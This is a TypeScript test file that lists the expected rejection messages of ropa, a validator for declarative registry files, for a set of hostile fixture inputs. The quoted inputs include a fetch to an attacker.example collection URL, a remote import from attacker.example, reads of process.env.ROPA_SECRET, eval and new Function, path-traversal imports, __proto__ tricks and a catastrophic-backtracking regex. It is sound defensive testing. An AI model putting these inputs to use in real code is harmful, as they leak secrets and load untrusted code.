import type { Said } from './harness.ts';

const refused = (says: string) => ({ rule: 'registry/declarative-only', says });
const value = (code: string) =>
  refused(`“${code}” is not a value that can be read. Registry files are read, never run.`);
const statement = (code: string) =>
  refused(
    `“${code}” is not a declaration. A registry file holds imports, constants and exports only.`,
  );
const call = (code: string) =>
  refused(`“${code}” is not a function of ropa. No other function may be called here.`);
const imported = (module: string) =>
  refused(`“${module}” cannot be imported here: only ropa and files of the same organisation can.`);

/** For each folder of `fixtures/hostile`, its one finding; places are in the folder `acme`. */
export const HOSTILE: Readonly<Record<string, Said>> = {
  annotation: {
    at: 'hostile.ts:1:20',
    ...refused('A cast hides what the compiler would say. Write the value as the law asks for it.'),
  },
  'arrow-function': { at: 'hostile.ts:5:9', ...value("() => 'people'") },
  await: { at: 'hostile.ts:1:21', ...value("await fetch('https://attacker.example/collect')") },
  'big-integer': { at: 'hostile.ts:5:9', ...value('10n') },
  'call-constant': { at: 'hostile.ts:3:23', ...call('people') },
  'call-list': { at: 'hostile.ts:3:23', ...refused('This function takes one declaration.') },
  'call-nothing': { at: 'hostile.ts:3:23', ...refused('This function takes one declaration.') },
  'call-text': { at: 'hostile.ts:3:23', ...refused('This function takes one declaration.') },
  'call-two': { at: 'hostile.ts:3:23', ...refused('This function takes one declaration.') },
  cast: {
    at: 'hostile.ts:5:9',
    ...refused('A cast hides what the compiler would say. Write the value as the law asks for it.'),
  },
  'cast-in-brackets': { at: 'hostile.ts:5:9', ...value("<any>'people'") },
  class: { at: 'hostile.ts:1:1', ...statement('export class People {') },
  'computed-name': {
    at: 'hostile.ts:5:3',
    ...refused('A property has a plain name and a value: no function, no computed name.'),
  },
  condition: { at: 'hostile.ts:5:9', ...value("true ? 'people' : 'nobody'") },
  declare: {
    at: 'hostile.ts:1:1',
    ...refused('Only constants can be declared here: write “const”, with a value.'),
  },
  'declare-global': { at: 'hostile.ts:1:1', ...statement('declare global {') },
  'declared-twice': {
    at: 'hostile.ts:4:24',
    rule: 'integrity/duplicate-id',
    says: 'The id “health” is used twice.',
  },
  'declared-twice-by-name': {
    at: 'hostile.ts:5:20',
    rule: 'integrity/duplicate-id',
    says: 'The id “people” is used twice.',
  },
  decorator: { at: 'hostile.ts:1:1', ...statement('@sealed') },
  delete: { at: 'hostile.ts:2:1', ...statement('delete people.name;') },
  'delete-access': { at: 'hostile.ts:5:9', ...value('delete Object.prototype') },
  'destructured-default': {
    at: 'hostile.ts:1:16',
    ...refused('Only plain names can be taken out of an object here.'),
  },
  'destructured-list': {
    at: 'hostile.ts:1:14',
    ...refused('Only plain names can be taken out of an object here.'),
  },
  'destructured-rest': {
    at: 'hostile.ts:1:19',
    ...refused('Only plain names can be taken out of an object here.'),
  },
  enum: { at: 'hostile.ts:1:1', ...statement('export enum People {') },
  eval: { at: 'hostile.ts:5:9', ...call('eval') },
  'expect-error': { at: 'hostile.ts:5:3', ...statement('// @ts-expect-error: nothing is wrong') },
  'export-equals': { at: 'hostile.ts:1:1', ...statement("export = { name: 'people' };") },
  'export-list': { at: 'hostile.ts:2:1', ...statement('export { people };') },
  'export-star': { at: 'hostile.ts:1:1', ...statement("export * from './other.ts';") },
  fetch: { at: 'hostile.ts:1:21', ...call('fetch') },
  'fs-import': { at: 'hostile.ts:1:31', ...imported('node:fs') },
  'fs-import-require': { at: 'hostile.ts:1:1', ...statement("import fs = require('node:fs');") },
  'fs-require': { at: 'hostile.ts:1:21', ...call('require') },
  function: { at: 'hostile.ts:1:1', ...statement('export function people() {') },
  getter: {
    at: 'hostile.ts:5:3',
    ...refused('A property has a plain name and a value: no function, no computed name.'),
  },
  'global-this': { at: 'hostile.ts:5:9', ...value('globalThis.process.env.ROPA_SECRET') },
  hole: { at: 'hostile.ts:1:26', ...value(',') },
  ignore: { at: 'hostile.ts:4:3', ...statement('// @ts-ignore') },
  'immediate-function': { at: 'hostile.ts:5:10', ...value("() => 'people'") },
  'import-absolute': { at: 'hostile.ts:1:20', ...imported('/etc/hostname') },
  'import-call': {
    at: 'hostile.ts:1:23',
    ...refused('A registry file cannot load other code while it is read.'),
  },
  'import-cycle': {
    at: 'two.ts:1:21',
    ...refused('“./one.ts” imports this file in turn. Put what both need into a third file.'),
  },
  'import-itself': {
    at: 'hostile.ts:1:24',
    ...refused('“./hostile.ts” imports this file in turn. Put what both need into a third file.'),
  },
  'import-json': { at: 'hostile.ts:1:20', ...imported('./people.json') },
  'import-line-break': {
    at: 'hostile.ts:1:24',
    rule: 'integrity/unknown-reference',
    says: 'There is no file “./no there.ts”.',
  },
  'import-meta': { at: 'hostile.ts:5:9', ...value('import.meta') },
  'import-missing': {
    at: 'hostile.ts:1:24',
    rule: 'integrity/unknown-reference',
    says: 'There is no file “./absent.ts”.',
  },
  'import-outside': {
    at: 'hostile.ts:1:24',
    ...refused('“../beyond/secret.ts” lies outside the folder of this organisation.'),
  },
  'import-package': { at: 'hostile.ts:1:20', ...imported('ts-morph') },
  'import-remote': { at: 'hostile.ts:1:20', ...imported('https://attacker.example/code.js') },
  'import-side-effect': { at: 'hostile.ts:1:1', ...statement("import './other.ts';") },
  'import-type-outside': {
    at: 'hostile.ts:1:29',
    ...refused('“../beyond/secret.ts” lies outside the folder of this organisation.'),
  },
  'index-access': { at: 'hostile.ts:7:9', ...value("names['people']") },
  let: {
    at: 'hostile.ts:1:1',
    ...refused('Only constants can be declared here: write “const”, with a value.'),
  },
  loop: { at: 'hostile.ts:1:1', ...statement('for (;;) {}') },
  method: {
    at: 'hostile.ts:5:3',
    ...refused('A property has a plain name and a value: no function, no computed name.'),
  },
  namespace: { at: 'hostile.ts:1:1', ...statement('export namespace People {') },
  'namespace-of-ropa': {
    at: 'hostile.ts:3:37',
    rule: 'integrity/unknown-reference',
    says: 'There is nothing called “constructor” here.',
  },
  'new-function': { at: 'hostile.ts:5:9', ...value('new Function(\'return "people"\')') },
  nocheck: { at: 'hostile.ts:1:1', ...statement('// @ts-nocheck') },
  'not-null': { at: 'hostile.ts:5:9', ...value("'people'!") },
  null: { at: 'hostile.ts:5:9', ...value('null') },
  'optional-access': { at: 'hostile.ts:7:9', ...value('names?.people') },
  organisation: { at: 'organisation.ts:5:9', ...value('process.env.ROPA_SECRET') },
  'organisation-elsewhere': { at: 'name.ts:1:21', ...value('process.env.ROPA_SECRET') },
  'process-env': { at: 'hostile.ts:5:9', ...value('process.env.ROPA_SECRET') },
  'process-env-in-text': { at: 'hostile.ts:5:19', ...value('process.env.ROPA_SECRET') },
  'proto-access': {
    at: 'hostile.ts:5:12',
    rule: 'integrity/unknown-reference',
    says: 'There is nothing called “__proto__” here.',
  },
  'proto-computed': {
    at: 'hostile.ts:5:11',
    ...refused('A property has a plain name and a value: no function, no computed name.'),
  },
  'proto-constant': {
    at: 'user.ts:3:49',
    rule: 'integrity/unknown-reference',
    says: 'There is nothing called “toString” here.',
  },
  'proto-constructor': {
    at: 'hostile.ts:7:14',
    rule: 'integrity/unknown-reference',
    says: 'There is nothing called “constructor” here.',
  },
  'proto-method': {
    at: 'hostile.ts:4:9',
    ...refused('A property has a plain name and a value: no function, no computed name.'),
  },
  'proto-name': {
    at: 'hostile.ts:5:11',
    ...refused('“__proto__” cannot be the name of a property.'),
  },
  'proto-text': {
    at: 'hostile.ts:5:11',
    ...refused('“__proto__” cannot be the name of a property.'),
  },
  'reference-path': {
    at: 'hostile.ts:1:1',
    ...statement('/// <reference path="../beyond/globals.d.ts" />'),
  },
  'regular-expression': { at: 'hostile.ts:5:9', ...value('/(a+)+$/') },
  'regular-expression-text': {
    at: 'hostile.ts:4:7',
    rule: 'registry/invalid-value',
    says: '“a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-!” is not an id: use lower-case letters, digits and hyphens, as in “training-orders”.',
  },
  setter: {
    at: 'hostile.ts:5:3',
    ...refused('A property has a plain name and a value: no function, no computed name.'),
  },
  'spread-argument': { at: 'hostile.ts:3:35', ...value("...[{ id: 'people', name: 'people' }]") },
  'spread-list-into-object': {
    at: 'hostile.ts:1:25',
    ...refused('Only an object can be spread into an object.'),
  },
  'spread-text': { at: 'hostile.ts:1:22', ...refused('Only a list can be spread into a list.') },
  sum: { at: 'hostile.ts:5:9', ...value("'peo' + 'ple'") },
  interface: { at: 'hostile.ts:1:1', ...statement('interface Named {') },
  'syntax-error': {
    at: 'hostile.ts:5:3',
    rule: 'registry/syntax',
    says: "This file cannot be read from here on: ',' expected.",
  },
  'tagged-template': { at: 'hostile.ts:5:9', ...value('String.raw`people`') },
  'tagged-with-function': { at: 'hostile.ts:3:20', ...value('citation`GDPR`') },
  'text-length': {
    at: 'hostile.ts:5:18',
    rule: 'integrity/unknown-reference',
    says: 'There is nothing called “length” here.',
  },
  throw: { at: 'hostile.ts:1:1', ...statement("throw new Error('stop');") },
  'type-argument': {
    at: 'hostile.ts:3:32',
    ...refused('A cast hides what the compiler would say. Write the value as the law asks for it.'),
  },
  type: { at: 'hostile.ts:1:1', ...statement("type Name = 'ab';") },
  undefined: { at: 'hostile.ts:5:9', ...refused('“undefined” is not declared in this file.') },
  'used-elsewhere': { at: 'data-subjects.ts:5:9', ...value('process.env.ROPA_SECRET') },
  using: {
    at: 'hostile.ts:1:1',
    ...refused('Only constants can be declared here: write “const”, with a value.'),
  },
  'value-cycle': { at: 'hostile.ts:1:14', ...refused('This value needs itself.') },
  'value-cycle-of-two': { at: 'hostile.ts:1:14', ...refused('This value needs itself.') },
};
